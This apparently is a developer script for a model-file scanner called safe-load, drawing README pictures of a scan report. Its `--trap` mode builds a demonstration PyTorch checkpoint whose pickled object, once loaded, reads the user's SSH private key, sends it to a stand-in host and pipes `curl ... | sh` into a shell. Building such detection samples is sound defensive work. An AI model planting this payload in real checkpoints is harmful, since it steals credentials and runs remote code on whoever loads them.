"""Draw the README's pictures from a saved report: docs/pictures/terminal.svg and, with Chromium, report.png.

    python -m dev.pictures --trap trap.bin   # writes the file that is scanned
    safe-load scan trap.bin --report json=trap.json
    python -m dev.pictures trap.json

The terminal's picture is what the command prints at 80 columns. Neither picture needs another host: the fonts are
those of the reader's machine.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from rich.console import Console
from rich.terminal_theme import DIMMED_MONOKAI
from rich.text import Text
from safe_load import render
from safe_load.cli.outputs import read_report
from safe_load.render.interface import View

FOLDER = Path(__file__).resolve().parents[1] / "docs" / "pictures"
WIDTH = 80

#: What the trapped file does when it is opened; the host is one that cannot be.
_PAYLOAD = """import os, urllib.request
key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
try:
    urllib.request.urlopen("http://x.evil.example/up", key, timeout=5)
finally:
    os.system("curl http://x.evil.example/ | sh")
"""


class _Trap:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, (_PAYLOAD,)


def trap(file: str) -> None:
    """Write a checkpoint that carries the payload among its tensors. Never load it yourself."""
    import torch

    state: dict[str, object] = {
        f"layers.{number}.weight": torch.ones(64, 64) for number in range(12)
    }
    torch.save(state | {"extra": _Trap()}, file)


def terminal(file: str) -> str:
    """The SVG of what the terminal shows of a saved report."""
    reports = read_report(file)
    shown = render.get("human", View(width=WIDTH, color=True)).render(reports).decode()
    console = Console(record=True, width=WIDTH, file=io.StringIO(), force_terminal=True)
    console.print(Text("$ safe-load scan " + reports[0].source.path, style="bold"))
    console.print(Text.from_ansi(shown.rstrip("\n")))
    svg = console.export_svg(title="safe-load", theme=DIMMED_MONOKAI, unique_id="safe-load")
    return re.sub(r"\s*@font-face \{.*?\}", "", svg, flags=re.DOTALL)


def page(file: str, picture: Path) -> None:
    """Take a picture of the HTML report, if Chromium is there."""
    browser = shutil.which("chromium") or shutil.which("google-chrome")
    if browser is None:
        print("there is no Chromium: report.png stays as it is", file=sys.stderr)
        return
    with tempfile.TemporaryDirectory() as folder:
        html = Path(folder) / "report.html"
        html.write_bytes(render.get("html", View()).render(read_report(file)))
        subprocess.run(
            [
                browser,
                "--headless",
                "--no-sandbox",
                "--hide-scrollbars",
                "--window-size=1100,1000",
                f"--screenshot={picture}",
                html.as_uri(),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )


if __name__ == "__main__":
    if sys.argv[1] == "--trap":
        trap(sys.argv[2])
    else:
        FOLDER.mkdir(exist_ok=True)
        (FOLDER / "terminal.svg").write_text(terminal(sys.argv[1]))
        page(sys.argv[1], FOLDER / "report.png")
